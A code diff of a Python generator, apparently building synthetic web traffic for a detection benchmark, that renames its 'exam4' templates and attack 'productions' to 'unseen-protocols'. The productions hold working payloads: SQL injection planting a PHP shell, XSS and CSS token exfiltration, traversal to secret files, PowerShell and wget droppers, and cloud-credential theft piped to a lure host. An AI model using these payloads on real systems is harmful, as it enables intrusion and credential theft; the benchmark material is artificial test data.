+    Template("unseen-protocols.docs.cql", "docs", "xhr", lambda r: _xhr("/wiki/rest/api/search?cql=" + quote(f'siteSearch ~ "{_query(r, 0.5)}" AND type in (page,blogpost)', safe="")
                                                              + f"&limit=10&start={r.choice((0, 10, 20))}")),
-    Template("exam4.docs.draft", "docs", "xhr_post", _rest("PUT", lambda r: f"/ajax/page/{r.randint(1, 9000)}/save-draft", lambda r: {"name": r.choice(PAGES).title(), "html": _html_p(r, FORUM_TEXT)})),
-    Template("exam4.docs.notebook", "docs", "xhr_post", _jupyter_save),
-    Template("exam4.docs.comment", "docs", "xhr_post", _rest("POST", lambda r: f"/comment/{r.randint(1, 9000)}", lambda r: {"html": _html_p(r, COMMENT_MARKDOWN), "parent_id": r.choice((None, r.randint(1, 400)))})),
-    Template("exam4.docs.edit", "docs", "form", _form(lambda r: "/doku.php", lambda r: {"sectok": _hex(r, 32), "id": f"{r.choice(SECTIONS)}:{r.choice(PAGES)}", "rev": "0",
+    Template("unseen-protocols.docs.draft", "docs", "xhr_post", _rest("PUT", lambda r: f"/ajax/page/{r.randint(1, 9000)}/save-draft", lambda r: {"name": r.choice(PAGES).title(), "html": paragraph(r, FORUM_TEXT)})),
+    Template("unseen-protocols.docs.notebook", "docs", "xhr_post", _jupyter_save),
+    Template("unseen-protocols.docs.comment", "docs", "xhr_post", _rest("POST", lambda r: f"/comment/{r.randint(1, 9000)}", lambda r: {"html": paragraph(r, COMMENT_MARKDOWN), "parent_id": r.choice((None, r.randint(1, 400)))})),
+    Template("unseen-protocols.docs.edit", "docs", "form", _form(lambda r: "/doku.php", lambda r: {"sectok": _hex(r, 32), "id": f"{r.choice(SECTIONS)}:{r.choice(PAGES)}", "rev": "0",
                                                                                         "date": str(1_700_000_000 + r.randint(0, 10**8)), "prefix": ".", "suffix": "", "changecheck": _hex(r, 32),
-                                                                                        "target": "section", "wikitext": _say(r, COMMENT_MARKDOWN), "summary": r.choice(("", "typo", "clarify")),
+                                                                                        "target": "section", "wikitext": pick(r, COMMENT_MARKDOWN), "summary": r.choice(("", "typo", "clarify")),
                                                                                         "do[save]": "Save"})),
-    Template("exam4.docs.login", "docs", "login", _form(lambda r: f"/doku.php?id={r.choice(('start', r.choice(SECTIONS) + ':' + r.choice(PAGES)))}&do=login&sectok=",
+    Template("unseen-protocols.docs.login", "docs", "login", _form(lambda r: f"/doku.php?id={r.choice(('start', r.choice(SECTIONS) + ':' + r.choice(PAGES)))}&do=login&sectok=",
                                                         lambda r: {"sectok": "", "id": "start", "do": "login", "u": r.choice(USERS), "p": _password(r), **({"r": "1"} if r.random() < 0.4 else {})})),
-    Template("exam4.docs.export", "docs", "download", lambda r: Endpoint("GET", r.choice((f"/books/{r.choice(REPOS)}/export/{r.choice(('pdf', 'html', 'markdown', 'plaintext'))}",
+    Template("unseen-protocols.docs.export", "docs", "download", lambda r: Endpoint("GET", r.choice((f"/books/{r.choice(REPOS)}/export/{r.choice(('pdf', 'html', 'markdown', 'plaintext'))}",
                                                                                          f"/wiki/spaces/flyingpdf/pdfpageexport.action?pageId={r.randint(10**5, 10**9)}")), "download")),
     # --- API: PostgREST, Strapi, Directus, tRPC, gRPC-web, Jira, Grafana
-    Template("exam4.api.postgrest", "api", "api", lambda r: Endpoint("GET", _postgrest(r), "api")),
-    Template("exam4.api.postgrest_patch", "api", "api", _json("PATCH", lambda r: f"/rest/v1/{r.choice(_TABLES)}?id=eq.{r.randint(1, 10**6)}",
+    Template("unseen-protocols.api.postgrest", "api", "api", lambda r: Endpoint("GET", _postgrest(r), "api")),
+    Template("unseen-protocols.api.postgrest_patch", "api", "api", _json("PATCH", lambda r: f"/rest/v1/{r.choice(_TABLES)}?id=eq.{r.randint(1, 10**6)}",
                                                               lambda r: {"status": r.choice(("paid", "shipped", "cancelled")), "updated_by": _uuid(r)}, "api")),
-    Template("exam4.api.strapi", "api", "api", lambda r: Endpoint("GET", _strapi(r), "api")),
-    Template("exam4.api.directus", "api", "api", lambda r: Endpoint("GET", _directus(r), "api")),
-    Template("exam4.api.trpc", "api", "api", lambda r: Endpoint("GET", _trpc(r), "api")),
-    Template("exam4.api.grpc_web", "api", "api", lambda r: Endpoint("POST", f"/{r.choice(('billing.v1', 'orders.v2', 'crm.v1'))}.{r.choice(('OrderService', 'InvoiceService', 'CustomerService'))}"
+    Template("unseen-protocols.api.strapi", "api", "api", lambda r: Endpoint("GET", _strapi(r), "api")),
+    Template("unseen-protocols.api.directus", "api", "api", lambda r: Endpoint("GET", _directus(r), "api")),
+    Template("unseen-protocols.api.trpc", "api", "api", lambda r: Endpoint("GET", _trpc(r), "api")),
+    Template("unseen-protocols.api.grpc_web", "api", "api", lambda r: Endpoint("POST", f"/{r.choice(('billing.v1', 'orders.v2', 'crm.v1'))}.{r.choice(('OrderService', 'InvoiceService', 'CustomerService'))}"
                                                                             f"/{r.choice(('Get', 'List', 'Search'))}{r.choice(('Order', 'Invoices', 'Customers'))}", "api", "xhr_post",
                                                                     _grpc_web(r), "application/grpc-web-text")),
-    Template("exam4.api.jira", "api", "api", lambda r: Endpoint("GET", f"/rest/api/3/search/jql?jql={quote(_jql(r), safe='')}&maxResults={r.choice((50, 100))}&fields=summary,status,assignee", "api")),
-    Template("exam4.api.grafana", "api", "api", _json("POST", lambda r: f"/api/ds/query?ds_type=prometheus&requestId=SQR{r.randint(100, 999)}",
+    Template("unseen-protocols.api.jira", "api", "api", lambda r: Endpoint("GET", f"/rest/api/3/search/jql?jql={quote(_jql(r), safe='')}&maxResults={r.choice((50, 100))}&fields=summary,status,assignee", "api")),
+    Template("unseen-protocols.api.grafana", "api", "api", _json("POST", lambda r: f"/api/ds/query?ds_type=prometheus&requestId=SQR{r.randint(100, 999)}",
                                                       lambda r: {"queries": [{"refId": "A", "datasource": {"type": "prometheus", "uid": _b62(r, 14)}, "expr": _promql(r), "interval": "",
                                                                               "maxDataPoints": r.choice((600, 1200))}], "from": str(_ms(r) - 21_600_000), "to": str(_ms(r))}, "api")),
     # --- shared by every site
-    Template("exam4.asset.nuxt", "*", "asset", lambda r: (Endpoint("GET", f"/_nuxt/{_b64url(r, 8)}.js", "asset", "script") if r.random() < 0.6
+    Template("unseen-protocols.asset.nuxt", "*", "asset", lambda r: (Endpoint("GET", f"/_nuxt/{_b64url(r, 8)}.js", "asset", "script") if r.random() < 0.6
                                                           else Endpoint("GET", f"/_nuxt/entry.{_b64url(r, 8)}.css", "asset", "style"))),
-    Template("exam4.asset.cloudinary", "*", "asset", _asset(lambda r: f"/image/upload/c_fill,g_auto,w_{(w := r.choice((320, 640, 960, 1280)))},h_{w * 3 // 4},q_auto,f_auto/v{r.randint(1_600_000_000, 1_780_000_000)}"
+    Template("unseen-protocols.asset.cloudinary", "*", "asset", _asset(lambda r: f"/image/upload/c_fill,g_auto,w_{(w := r.choice((320, 640, 960, 1280)))},h_{w * 3 // 4},q_auto,f_auto/v{r.randint(1_600_000_000, 1_780_000_000)}"
                                                                       f"/{r.choice(('products', 'blog', 'team'))}/{_slug(r)}.jpg", "image")),
-    Template("exam4.asset.thumbor", "*", "asset", _asset(lambda r: f"/unsafe/{r.choice((160, 300, 600))}x{r.choice((0, 200, 400))}/smart/filters:format(webp):quality({r.choice((70, 80, 90))})"
+    Template("unseen-protocols.asset.thumbor", "*", "asset", _asset(lambda r: f"/unsafe/{r.choice((160, 300, 600))}x{r.choice((0, 200, 400))}/smart/filters:format(webp):quality({r.choice((70, 80, 90))})"
                                                                    f"/uploads/{_slug(r)}.jpg", "image")),
-    Template("exam4.generic.page_data", "*", "xhr", lambda r: _xhr(r.choice((f"/page-data/{r.choice(TOPICS)}/page-data.json", "/page-data/app-data.json", f"/page-data/sq/d/{r.randint(10**8, 10**10)}.json")))),
-    Template("exam4.generic.umami", "*", "xhr_post", _umami),
-    Template("exam4.generic.sentry", "*", "xhr_post", _sentry),
+    Template("unseen-protocols.generic.page_data", "*", "xhr", lambda r: _xhr(r.choice((f"/page-data/{r.choice(TOPICS)}/page-data.json", "/page-data/app-data.json", f"/page-data/sq/d/{r.randint(10**8, 10**10)}.json")))),
+    Template("unseen-protocols.generic.umami", "*", "xhr_post", _umami),
+    Template("unseen-protocols.generic.sentry", "*", "xhr_post", _sentry),
     # a page-view beacon sent by fetch() with a string body (text/plain, no preflight)
-    Template("exam4.generic.insights", "*", "xhr_post", lambda r: Endpoint("POST", "/_vercel/insights/view", "xhr", "xhr_post",
+    Template("unseen-protocols.generic.insights", "*", "xhr_post", lambda r: Endpoint("POST", "/_vercel/insights/view", "xhr", "xhr_post",
                                                                             _compact({"o": f"https://{r.choice(tuple(HOSTS.values()))}/{_slug(r)}", "sv": "0.1.3",
                                                                                       "sdkn": "@vercel/analytics/next", "sdkv": f"1.{r.randint(4, 6)}.{r.randint(0, 3)}",
                                                                                       "ts": _ms(r), "r": r.choice(("", "https://www.google.com/", "https://duckduckgo.com/"))}),
                                                                             "text/plain;charset=UTF-8")),
-    Template("exam4.generic.kratos", "*", "login", _form(lambda r: f"/self-service/login?flow={_uuid(r)}",
+    Template("unseen-protocols.generic.kratos", "*", "login", _form(lambda r: f"/self-service/login?flow={_uuid(r)}",
                                                          lambda r: {"csrf_token": _b64std(r, 66), "identifier": _email(r) if r.random() < 0.7 else r.choice(USERS), "password": _password(r), "method": "password"})),
-    Template("exam4.generic.token", "*", "login", lambda r: (_json("POST", lambda q: "/auth/v1/token?grant_type=password", lambda q: {"email": _email(q), "password": _password(q), "gotrue_meta_security": {}})(r)
+    Template("unseen-protocols.generic.token", "*", "login", lambda r: (_json("POST", lambda q: "/auth/v1/token?grant_type=password", lambda q: {"email": _email(q), "password": _password(q), "gotrue_meta_security": {}})(r)
                                                              if r.random() < 0.5 else
                                                              _json("POST", lambda q: "/api/v3/flows/executor/default-authentication-flow/?query=next%3D%252F",
                                                                    lambda q: {"component": "ak-stage-identification", "uid_field": _email(q)} if q.random() < 0.5 else
                                                                    {"component": "ak-stage-password", "password": _password(q)})(r))),
-    Template("exam4.generic.share", "*", "download", lambda r: Endpoint("GET", f"/index.php/s/{_b62(r, 15)}/download?path=%2F&files={_slug(r)}.{r.choice(('pdf', 'zip', 'xlsx'))}", "download")),
-    Template("exam4.generic.packages", "*", "download", lambda r: Endpoint("GET", r.choice((f"/debian/pool/main/{(repo := r.choice(REPOS))[0]}/{repo}/{repo}_{_version(r)}-1_{r.choice(('amd64', 'arm64'))}.deb",
+    Template("unseen-protocols.generic.share", "*", "download", lambda r: Endpoint("GET", f"/index.php/s/{_b62(r, 15)}/download?path=%2F&files={_slug(r)}.{r.choice(('pdf', 'zip', 'xlsx'))}", "download")),
+    Template("unseen-protocols.generic.packages", "*", "download", lambda r: Endpoint("GET", r.choice((f"/debian/pool/main/{(repo := r.choice(REPOS))[0]}/{repo}/{repo}_{_version(r)}-1_{r.choice(('amd64', 'arm64'))}.deb",
                                                                                            f"/rpm/el{(el := r.choice((8, 9, 10)))}/x86_64/{r.choice(REPOS)}-{_version(r)}-1.el{el}.x86_64.rpm")), "download")),
-    Template("exam4.generic.feed", "*", "feed", lambda r: Endpoint("GET", f"/feed/by_tag/{r.choice(TAGS)}.xml", "feed")),
+    Template("unseen-protocols.generic.feed", "*", "feed", lambda r: Endpoint("GET", f"/feed/by_tag/{r.choice(TAGS)}.xml", "feed")),
 )
 
 # ---------------------------------------------------------------------------- payloads
 
-
-def _n(rng: random.Random) -> str:
-    return str(rng.randint(1, 9999))
 
 
 def _b64u(obj: object) -> str:
@@ -700,7 +686,7 @@ def _cypher(rng: random.Random) -> str:
         "' OR 1=1 WITH 1 AS x MATCH (n) RETURN n LIMIT 25 //", "x' }) RETURN 1 AS x UNION MATCH (u:User) RETURN u.password AS x //",
         f"' CALL db.labels() YIELD label LOAD CSV FROM 'http://{host}/?l='+label AS r RETURN r //",
         f"' OR 1=1 CALL dbms.components() YIELD name, versions LOAD CSV FROM 'https://{host}/'+name+versions[0] AS y RETURN 0 //",
-        f"{_n(rng)}) MATCH (a) DETACH DELETE a //", "' CALL apoc.load.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value //",
+        f"{number(rng)}) MATCH (a) DETACH DELETE a //", "' CALL apoc.load.json('http://169.254.169.254/latest/meta-data/') YIELD value RETURN value //",
         f"{rng.choice(USERS)}'}}) MATCH (n:User) WHERE n.email STARTS WITH '{rng.choice('abcdefghij')}' RETURN count(n) //",
         "' RETURN 1 UNION CALL db.propertyKeys() YIELD propertyKey RETURN propertyKey AS x //",
     ))
@@ -779,160 +765,160 @@ def _write_target(rng: random.Random) -> str:
 
 PRODUCTIONS: tuple[Production, ...] = (
     # SQL: JSON operators a filter does not parse, MySQL 8's sys schema, PostgreSQL large objects and dblink, embedded engines, MSSQL JSON and extended-event files
-    Production("exam4.sqli.json_operators", "sqli", lambda r: r.choice((
-        "' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb--", f"{_n(r)}' OR JSON_EXTRACT('{{\"a\":{(k := r.randint(1, 9))}}}','$.a')={k}-- -",
-        f"' OR '{{\"b\":{(k := r.randint(1, 9))}}}' -> '$.b' = {k}--", f"{_n(r)} OR json_array_length('[1,2]')=2", "' OR JSON_DEPTH('{}') != 2137 -- -",
-        f"{_n(r)}' AND (SELECT jsonb_object_keys(to_jsonb(u)) FROM users u LIMIT 1) IS NOT NULL--"))),
-    Production("exam4.sqli.mysql8", "sqli", lambda r: r.choice((
+    Production("unseen-protocols.sqli.json_operators", "sqli", lambda r: r.choice((
+        "' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb--", f"{number(r)}' OR JSON_EXTRACT('{{\"a\":{(k := r.randint(1, 9))}}}','$.a')={k}-- -",
+        f"' OR '{{\"b\":{(k := r.randint(1, 9))}}}' -> '$.b' = {k}--", f"{number(r)} OR json_array_length('[1,2]')=2", "' OR JSON_DEPTH('{}') != 2137 -- -",
+        f"{number(r)}' AND (SELECT jsonb_object_keys(to_jsonb(u)) FROM users u LIMIT 1) IS NOT NULL--"))),
+    Production("unseen-protocols.sqli.mysql8", "sqli", lambda r: r.choice((
         "' UNION SELECT table_name,NULL FROM sys.schema_table_statistics-- -", "' UNION SELECT object_name,NULL FROM performance_schema.objects_summary_global_by_type-- -",
-        "' UNION SELECT table_name,NULL FROM mysql.innodb_table_stats-- -", f"{_n(r)}' UNION SELECT * FROM JSON_TABLE('[1]','$[*]' COLUMNS(a INT PATH '$'))j-- -",
-        f"0'XOR(if(now()=sysdate(),sleep({r.randint(3, 15)}),0))XOR'Z", f"{_n(r)}' AND (SELECT 1 FROM (VALUES ROW(1))v)=1 AND SLEEP({r.randint(3, 9)})-- -",
+        "' UNION SELECT table_name,NULL FROM mysql.innodb_table_stats-- -", f"{number(r)}' UNION SELECT * FROM JSON_TABLE('[1]','$[*]' COLUMNS(a INT PATH '$'))j-- -",
+        f"0'XOR(if(now()=sysdate(),sleep({r.randint(3, 15)}),0))XOR'Z", f"{number(r)}' AND (SELECT 1 FROM (VALUES ROW(1))v)=1 AND SLEEP({r.randint(3, 9)})-- -",
         "' UNION TABLE mysql.user-- -"))),
-    Production("exam4.sqli.pg_lo_dblink", "sqli", lambda r: r.choice((
-        f"{_n(r)}'; SELECT lo_import('/etc/passwd',{r.randint(1000, 99999)});--", f"'||(SELECT encode(lo_get({r.randint(1000, 99999)}),'escape'))||'",
-        f"{_n(r)}'; SELECT dblink_connect('host={_lure(r)} user=a password=b dbname=c');--",
-        f"{_n(r)}' AND 1=(SELECT 1 FROM dblink('host={_lure(r)} dbname=x','SELECT 1') AS t(a int))--",
-        f"{_n(r)}'; SELECT lo_from_bytea(0,'<?php system($_GET[0]); ?>');--"))),
-    Production("exam4.sqli.embedded_engines", "sqli", lambda r: r.choice((
+    Production("unseen-protocols.sqli.pg_lo_dblink", "sqli", lambda r: r.choice((
+        f"{number(r)}'; SELECT lo_import('/etc/passwd',{r.randint(1000, 99999)});--", f"'||(SELECT encode(lo_get({r.randint(1000, 99999)}),'escape'))||'",
+        f"{number(r)}'; SELECT dblink_connect('host={_lure(r)} user=a password=b dbname=c');--",
+        f"{number(r)}' AND 1=(SELECT 1 FROM dblink('host={_lure(r)} dbname=x','SELECT 1') AS t(a int))--",
+        f"{number(r)}'; SELECT lo_from_bytea(0,'<?php system($_GET[0]); ?>');--"))),
+    Production("unseen-protocols.sqli.embedded_engines", "sqli", lambda r: r.choice((
         "'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).next(); }'; CALL EXEC('id');--",
         f"' AND load_extension('\\\\{_lure(r)}\\x')--", "' UNION SELECT content,NULL FROM read_text('/etc/passwd')--", "' UNION SELECT * FROM read_csv_auto('/etc/passwd')--",
         "'; CALL \"java.lang.System.getProperty\"('user.dir')--", f"' UNION SELECT * FROM read_json_auto('http://{_lure(r)}/x.json')--"))),
-    Production("exam4.sqli.mssql_json_xe", "sqli", lambda r: r.choice((
-        f"{_n(r)}' UNION SELECT name,NULL FROM sys.databases FOR JSON AUTO--", f"{_n(r)}' AND 1=(SELECT STRING_AGG(name,',') FROM sys.tables)--",
-        f"{_n(r)}'; SELECT * FROM sys.fn_xe_file_target_read_file('\\\\{_lure(r)}\\a\\b.xel',NULL,NULL,NULL)--",
-        f"{_n(r)}'; SELECT * FROM fn_trace_gettable('\\\\{_lure(r)}\\t.trc',default)--", f"{_n(r)}' AND 1=(SELECT TOP 1 [value] FROM OPENJSON(@@version))--",
-        f"{_n(r)}' AND 1=(SELECT name FROM sys.sql_logins FOR XML PATH(''))--"))),
+    Production("unseen-protocols.sqli.mssql_json_xe", "sqli", lambda r: r.choice((
+        f"{number(r)}' UNION SELECT name,NULL FROM sys.databases FOR JSON AUTO--", f"{number(r)}' AND 1=(SELECT STRING_AGG(name,',') FROM sys.tables)--",
+        f"{number(r)}'; SELECT * FROM sys.fn_xe_file_target_read_file('\\\\{_lure(r)}\\a\\b.xel',NULL,NULL,NULL)--",
+        f"{number(r)}'; SELECT * FROM fn_trace_gettable('\\\\{_lure(r)}\\t.trc',default)--", f"{number(r)}' AND 1=(SELECT TOP 1 [value] FROM OPENJSON(@@version))--",
+        f"{number(r)}' AND 1=(SELECT name FROM sys.sql_logins FOR XML PATH(''))--"))),
     # XSS: declarative shadow roots and foreignObject, DOM clobbering gadgets, events of the newest elements and attributes
-    Production("exam4.xss.shadow_root", "xss", lambda r: r.choice((
+    Production("unseen-protocols.xss.shadow_root", "xss", lambda r: r.choice((
         f"<template shadowrootmode=open><img src=x onerror={attacks._jsfn(r)}></template>", f"<div><template shadowrootmode=closed><style onload={attacks._jsfn(r)}></style></template></div>",
         f"<svg><foreignObject width=100 height=100><body onload={attacks._jsfn(r)}></body></foreignObject></svg>",
         f"<svg><foreignObject><iframe src=\"javascript:{attacks._jsfn(r)}\"></iframe></foreignObject></svg>",
         f"<template shadowrootmode=open shadowrootdelegatesfocus><input autofocus onfocus={attacks._jsfn(r)}></template>"))),
-    Production("exam4.xss.clobbering", "xss", lambda r: r.choice((
+    Production("unseen-protocols.xss.clobbering", "xss", lambda r: r.choice((
         f"<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror={attacks._jsfn(r)}//\">", f"<a id=CONFIG name=scriptSrc href=//{_lure(r)}/x.js>",
         "<form name=getElementById></form><form id=x name=x><input name=attributes></form>", f"<iframe name=config srcdoc=\"<a id=url href=//{_lure(r)}/p.js></a>\"></iframe>",
         f"<img name=currentScript src=//{_lure(r)}/x><a id=__proto__ name=src href=//{_lure(r)}/y.js>"))),
-    Production("exam4.xss.new_elements", "xss", lambda r: r.choice((
+    Production("unseen-protocols.xss.new_elements", "xss", lambda r: r.choice((
         f"<div hidden=until-found onbeforematch={attacks._jsfn(r)}>x</div>", f"<dialog id=d{(k := r.randint(1, 99))} oncommand={attacks._jsfn(r)}></dialog><button commandfor=d{k} command=--go>go</button>",
         f"<x onauxclick={attacks._jsfn(r)}>middle-click</x>", f"<div contenteditable onbeforeinput={attacks._jsfn(r)}>type</div>",
         f"<input value=copy oncut={attacks._jsfn(r)} onpaste={attacks._jsfn(r)} autofocus>", f"<a onpointerrawupdate={attacks._jsfn(r)}>move</a>"))),
     # CSS injection (no script): attribute selectors, fonts and :has() that leak a token one character at a time
-    Production("exam4.css.exfil", "xss", lambda r: r.choice((
+    Production("unseen-protocols.css.exfil", "xss", lambda r: r.choice((
         f"</style><style>input[name=csrf_token][value^={(c := r.choice('abcdef0123456789'))}]{{background:url(//{_lure(r)}/?p={c})}}</style>",
         f"<style>@font-face{{font-family:x;src:url(//{_lure(r)}/?c=A);unicode-range:U+0041}}input{{font-family:x}}</style>",
         f"<style>html:has(input[name=token][value^=\"{r.choice('abcdef0123456789')}\"]){{background:url(//{_lure(r)}/h)}}</style>",
         f"<link rel=stylesheet href=\"data:text/css,input[type=password][value$={r.choice('abc123')}]{{list-style:url(//{_lure(r)}/)}}\">",
         f"<div style=\"--leak:url(//{_lure(r)}/v);background:var(--leak)\">x</div>"))),
     # traversal: characters that normalise to dots and slashes, /proc roots, archive entries that write, Windows device and stream names
-    Production("exam4.trav.unicode_dots", "traversal", lambda r: "".join(r.choice(("%e2%80%a5/", "\u2025/", "%e2%80%a4%e2%80%a4/", "%ef%b9%92%ef%b9%92/", "..%e2%88%95", "..%e2%81%84",
+    Production("unseen-protocols.trav.unicode_dots", "traversal", lambda r: "".join(r.choice(("%e2%80%a5/", "\u2025/", "%e2%80%a4%e2%80%a4/", "%ef%b9%92%ef%b9%92/", "..%e2%88%95", "..%e2%81%84",
                                                                                    "%ef%b9%92%ef%b9%92%e2%88%95")) for _ in range(r.randint(3, 8)))
                + r.choice(("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ")), ("query", "path")),
-    Production("exam4.trav.proc_root", "traversal", lambda r: r.choice(("", "", "../" * r.randint(2, 6))) + r.choice((
+    Production("unseen-protocols.trav.proc_root", "traversal", lambda r: r.choice(("", "", "../" * r.randint(2, 6))) + r.choice((
         "/proc/self/root/etc/shadow", "/proc/self/cwd/.env", "/proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/self/cwd/config/database.yml",
         "/proc/self/root/root/.ssh/id_ed25519", "/proc/thread-self/root/etc/passwd", "/proc/self/cwd/app/settings.py")).lstrip("/" if r.random() < 0.3 else "")),
-    Production("exam4.trav.write_targets", "traversal", lambda r: r.choice(("../", "..\\", "./../")) * r.randint(4, 9) + _write_target(r), ("form", "json", "query", "path")),
-    Production("exam4.trav.windows_device", "traversal", lambda r: r.choice(_WIN_DEVICE), ("query", "path", "form")),
+    Production("unseen-protocols.trav.write_targets", "traversal", lambda r: r.choice(("../", "..\\", "./../")) * r.randint(4, 9) + _write_target(r), ("form", "json", "query", "path")),
+    Production("unseen-protocols.trav.windows_device", "traversal", lambda r: r.choice(_WIN_DEVICE), ("query", "path", "form")),
     # commands: PowerShell and cmd obfuscation, cloud CLIs' credentials, ordinary binaries that run commands, router droppers
-    Production("exam4.cmdi.ps_obfuscation", "cmdi", lambda r: r.choice((
+    Production("unseen-protocols.cmdi.ps_obfuscation", "cmdi", lambda r: r.choice((
         "&powershell -c \"&('i'+'ex')('who'+'ami')\"", "|powershell -c \"iex ('{1}{0}' -f 'ami','who')\"", "&powershell -c \"w`h`o`a`m`i\"",
         "&powershell -c \"&([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p'))))\"",
         "|pwsh -nop -c \"$c=[char[]](105,112,99,111,110,102,105,103);iex(-join $c)\"", "&%ProgramData:~0,1%%ProgramData:~9,2% /c whoami",
         f"&powershell -c \"$w=New-Object Net.WebClient;$w.Headers.Add('UA','x');iex $w.DownloadString('http://{_lure(r)}/s')\""))),
-    Production("exam4.cmdi.cloud_cli", "cmdi", lambda r: attacks._inject(r, r.choice((
+    Production("unseen-protocols.cmdi.cloud_cli", "cmdi", lambda r: attacks._inject(r, r.choice((
         "aws sts get-caller-identity", "aws secretsmanager list-secrets --region us-east-1", "gcloud auth print-access-token", "az account get-access-token",
         "cat ~/.config/gcloud/application_default_credentials.json", f"aws s3 cp ~/.aws/credentials s3://{r.choice(('bkp', 'logs'))}-{_hex(r, 6)}/",
         "vault token lookup", f"curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01 | curl -d @- {_lure(r)}")))),
-    Production("exam4.cmdi.gtfobins", "cmdi", lambda r: attacks._inject(r, r.choice((
+    Production("unseen-protocols.cmdi.gtfobins", "cmdi", lambda r: attacks._inject(r, r.choice((
         "find / -name passwd -maxdepth 2 -exec cat {} \\;", "sed -n '1e id' /etc/hosts", "zip /tmp/z.zip /etc/hosts -T -TT 'sh #'", "vim -c ':!id' -c ':q!'",
         "git -c core.pager='sh -c id' log -1", "env -i sh -c id", "busybox sh -c 'cat /etc/shadow'", f"base64 /etc/shadow | curl -d @- {_lure(r)}",
         "openssl enc -in /etc/shadow", "xargs -a /etc/passwd -I{} echo {}", "timeout 7 sh -c 'id;uname -a'")))),
-    Production("exam4.cmdi.router_dropper", "cmdi", lambda r: attacks._inject(r, r.choice((
+    Production("unseen-protocols.cmdi.router_dropper", "cmdi", lambda r: attacks._inject(r, r.choice((
         f"busybox telnetd -l /bin/sh -p {r.randint(2000, 65000)}", "echo -e '\\x41\\x4b\\x34\\x37'", "nvram set telnetd_enable=1;nvram commit",
         "iptables -F;iptables -P INPUT ACCEPT", f"cd /var/tmp;wget http://{_lure(r)}/bins/mpsl;chmod 777 mpsl;./mpsl {r.choice(('router', 'gpon', 'tplink'))}",
         "killall -9 telnetd dropbear", f"cd /tmp||cd /mnt;curl -s http://{_lure(r)}/arm7 -o .x;chmod +x .x;./.x")))),
     # templates of engines no side wrote for: Razor, Groovy and Dust; Django, Blade and Latte; Jinja's reachable globals
-    Production("exam4.ssti.razor_groovy", "other", lambda r: r.choice((
+    Production("unseen-protocols.ssti.razor_groovy", "other", lambda r: r.choice((
         "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); }", "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
         "${\"id\".execute().text}", "${new File('/etc/passwd').text}", "<% \"id\".execute() %>",
         "{@if cond=\"process.mainModule.require('child_process').execSync('id')\"}{/if}", "@(System.Environment.GetEnvironmentVariables())"))),
-    Production("exam4.ssti.django_blade", "other", lambda r: r.choice((
+    Production("unseen-protocols.ssti.django_blade", "other", lambda r: r.choice((
         "{% debug %}", "{{ settings.SECRET_KEY }}", "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}",
         "@php system('id'); @endphp", "{{ system('id') }}@php(phpinfo())", "{=system('id')}", "{var $x = system('id')}"))),
-    Production("exam4.ssti.jinja_globals", "other", lambda r: r.choice((
+    Production("unseen-protocols.ssti.jinja_globals", "other", lambda r: r.choice((
         "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
         "{{ namespace.__init__.__globals__.os.popen('id').read() }}", "{{ get_flashed_messages.__globals__['current_app'].config }}",
         "{{ url_for.__globals__['__builtins__']['open']('/etc/passwd').read() }}", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"))),
     # mail headers through a contact form's address or name
-    Production("exam4.crlf.mail_headers", "other", lambda r: r.choice((
-        f"{_email(r)}%0aBcc:{(v := r.choice(USERS) + '@' + _lure(r))}", f"{_email(r)}%0d%0aCc:{v}%0d%0aSubject:%20Invoice%20{_n(r)}", f"{_email(r)}\nBcc: {v}",
+    Production("unseen-protocols.crlf.mail_headers", "other", lambda r: r.choice((
+        f"{_email(r)}%0aBcc:{(v := r.choice(USERS) + '@' + _lure(r))}", f"{_email(r)}%0d%0aCc:{v}%0d%0aSubject:%20Invoice%20{number(r)}", f"{_email(r)}\nBcc: {v}",
         f"{_email(r)}%0AContent-Type:%20text/html%0A%0A<a href=http://{_lure(r)}>reset</a>", f"\"{r.choice(USERS).title()}\" <{_email(r)}>%0ABcc:{v}",
         f"{_email(r)}%0d%0aX-Mailer:%20x%0d%0a%0d%0aYour account was locked")), ("form", "query", "json")),
     # SSRF and local files through HTML-to-PDF and image renderers
-    Production("exam4.ssrf.renderers", "other", _renderer, ("form", "json", "query")),
+    Production("unseen-protocols.ssrf.renderers", "other", _renderer, ("form", "json", "query")),
     # MongoDB aggregation stages where a filter or sort belongs
-    Production("exam4.nosql.aggregation", "other", _mongo_pipeline, ("json", "query", "form")),
+    Production("unseen-protocols.nosql.aggregation", "other", _mongo_pipeline, ("json", "query", "form")),
     # PHP gadget chains
-    Production("exam4.deser.php_chains", "other", _php_chain, ("form", "json", "query", "header")),
+    Production("unseen-protocols.deser.php_chains", "other", _php_chain, ("form", "json", "query", "header")),
     # ---- families no other side has
     # JWT: alg none, and header parameters that pick the key (kid paths and SQL, jku, x5u, an embedded jwk)
-    Production("exam4.jwt.alg_none", "other", _jwt_none, ("query", "form", "json", "header")),
-    Production("exam4.jwt.header_params", "other", _jwt_header, ("query", "form", "json", "header")),
+    Production("unseen-protocols.jwt.alg_none", "other", _jwt_none, ("query", "form", "json", "header")),
+    Production("unseen-protocols.jwt.header_params", "other", _jwt_header, ("query", "form", "json", "header")),
     # SAML: signature wrapping, comments in the NameID, XSLT in the signature's transforms
-    Production("exam4.saml.wrapping", "other", _saml_wrapping, ("xml", "form", "json")),
-    Production("exam4.saml.tricks", "other", _saml_tricks, ("xml", "form", "json")),
+    Production("unseen-protocols.saml.wrapping", "other", _saml_wrapping, ("xml", "form", "json")),
